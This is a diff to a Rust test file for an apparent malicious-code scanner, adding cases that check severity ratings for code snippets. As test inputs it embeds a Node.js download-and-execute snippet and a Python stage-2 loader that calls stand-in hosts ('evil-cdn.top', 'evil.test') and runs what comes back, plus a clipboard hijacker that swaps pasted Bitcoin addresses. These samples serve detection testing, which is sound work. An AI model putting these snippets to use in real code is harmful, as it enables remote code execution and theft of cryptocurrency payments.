@@ -182,6 +182,11 @@ fn download_and_execute_vs_own_release_installer() {
     let node = "const https = require('https');\nconst fs = require('fs');\nhttps.get('https://files.evil-cdn.top/x', r => r.pipe(fs.createWriteStream('/tmp/x')).on('finish', () => {\n  fs.chmodSync('/tmp/x', 0o755);\n  require('child_process').execFile('/tmp/x');\n}));\n";
     assert_eq!(sev("lib/index.js", node), Some(Severity::Critical));
 
+    let stage2 = "import requests\npayload = requests.get(\"http://evil.test/stage2\").content\nexec(payload)\n";
+    assert_eq!(sev("pkg/s.py", stage2), Some(Severity::Critical));
+    let cfg = "import requests\ncfg = requests.get(CONFIG_URL).json()\nrun(cfg)\n";
+    clean("pkg/cfg.py", cfg);
+
     // rustup/deno-style installer: its own GitHub release, checksum checked.
     let install = r#"#!/bin/sh
 set -eu
@@ -227,6 +232,24 @@ export function Send() {
 }
 "#;
     clean("src/Send.jsx", ui);
+    // A clipper's loop body on its own: paste, regex test, copy back.
+    let body = r#"clipboard_data = pyperclip.paste()
+if re.search("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", clipboard_data):
+    pyperclip.copy(self.address_btc)
+"#;
+    assert_eq!(sev("pkg/c.py", body), Some(Severity::Critical));
+    // A CLI wallet that copies its address and reads a pasted one for validation.
+    let cli = r#"import pyperclip, re
+def show(addr):
+    pyperclip.copy(addr)
+    print("copied")
+
+def ask():
+    input("paste the recipient, then press enter")
+    to = pyperclip.paste()
+    return re.fullmatch(r"0x[a-fA-F0-9]{40}", to)
+"#;
+    clean("wallet/cli.py", cli);
     let copy_only =
         "const copy = () => navigator.clipboard.writeText(address); // 0x[a-fA-F0-9]{40}\n";
     clean("src/Copy.jsx", copy_only);
